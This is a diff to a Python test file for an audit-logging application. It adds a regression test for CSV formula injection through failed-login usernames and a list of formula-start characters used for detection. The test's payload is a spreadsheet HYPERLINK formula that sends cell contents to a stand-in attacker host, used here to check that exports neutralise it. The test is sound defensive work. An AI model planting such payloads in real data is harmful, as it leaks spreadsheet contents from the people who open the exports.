@@ -7,6 +7,7 @@ import contextlib
 import csv
 import io
 import os
+import re
 import subprocess
 import sys
 import threading
@@ -24,7 +25,7 @@ from interdict.audit.models import AuditEntry
 from interdict.core import migrate
 from interdict.core.db import make_engine, make_sessionmaker, unit_of_work
 from tests.conftest import BACKENDS, PASSWORD, World, _create_pg_database, _drop_pg_database, minimal_incident
-from tests.web.test_pages import login
+from tests.web.test_pages import login, post_login
 
 
 def last_seq(world: World) -> int:
@@ -74,8 +75,8 @@ def test_changes_reads_of_person_data_and_exports_are_recorded(client: TestClien
 
 def test_logins_failed_logins_and_logout_are_recorded(client: TestClient, world: World) -> None:
     mark = last_seq(world)
-    client.post("/login", data={"username": "officer.hp", "password": "wrong password!"})
-    client.post("/login", data={"username": "nobody.here", "password": "whatever it is"})
+    post_login(client, "officer.hp", "wrong password!")
+    post_login(client, "nobody.here", "whatever it is")
     csrf = login(client, "officer.hp")
     client.post("/logout", data={"csrf_token": csrf})
     got = [(e.action, e.actor_username, e.channel) for e in entries_since(world, mark)]
@@ -274,3 +275,56 @@ def test_cli_verify_exit_codes(own_db: str, tmp_path: Path) -> None:
         [sys.executable, "-m", "interdict", "audit", "verify"], env=env, capture_output=True, text=True
     )
     assert bad.returncode == 1 and "entry 2 was altered" in bad.stdout
+
+
+# --- formula injection (issue 16) -----------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def _formulas(csv_text: str) -> list[str]:
+    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
+    return [c for c in cells if c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c)]
+
+
+def test_a_failed_login_name_is_never_a_formula_in_the_auditors_exports_and_each_export_is_audited(
+    client: TestClient, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Anyone can type a user name at the login page; it lands in the trail every auditor exports."""
+    from typer.testing import CliRunner
+
+    from interdict.cli import app
+
+    with world.session() as s:
+        if accounts.get_user_by_username(s, "auditor.vn") is None:
+            accounts.create_user(
+                s,
+                UserCreate(
+                    username="auditor.vn", full_name="Auditor", role="auditor", org_code="VNC", password=PASSWORD
+                ),
+            )
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
+    client.post("/login", data={"username": evil, "password": "whatever it is"})
+    mark = last_seq(world)
+    login(client, "auditor.vn")
+    web = client.get("/audit/export.csv", params={"action": "auth.login_failed"})
+    assert web.status_code == 200
+    text_ = web.content.decode("utf-8-sig")
+    assert _formulas(text_) == []
+    assert "'" + evil.lower() in [r["actor_username"] for r in csv.DictReader(io.StringIO(text_))]
+
+    settings = world.app.state.settings
+    monkeypatch.setenv("INTERDICT_DATABASE_URL", settings.effective_database_url)
+    monkeypatch.setenv("INTERDICT_DATA_DIR", str(settings.data_dir))
+    monkeypatch.setenv("INTERDICT_SECRET_KEY", "test-secret-key")
+    out = tmp_path / "trail.csv"
+    r = CliRunner().invoke(app, ["audit", "export", "--user", "auditor.vn", "--output", str(out)])
+    assert r.exit_code == 0, r.output
+    text_ = out.read_text(encoding="utf-8")
+    assert _formulas(text_) == []
+    assert "'" + evil.lower() in [r["actor_username"] for r in csv.DictReader(io.StringIO(text_))]
+
+    exports = [(e.channel, e.after) for e in entries_since(world, mark) if e.action == "audit.export"]
+    assert [(channel, after["format"]) for channel, after in exports] == [("web", "csv"), ("cli", "csv")]
+    assert all(after["rows"] >= 1 for _, after in exports)
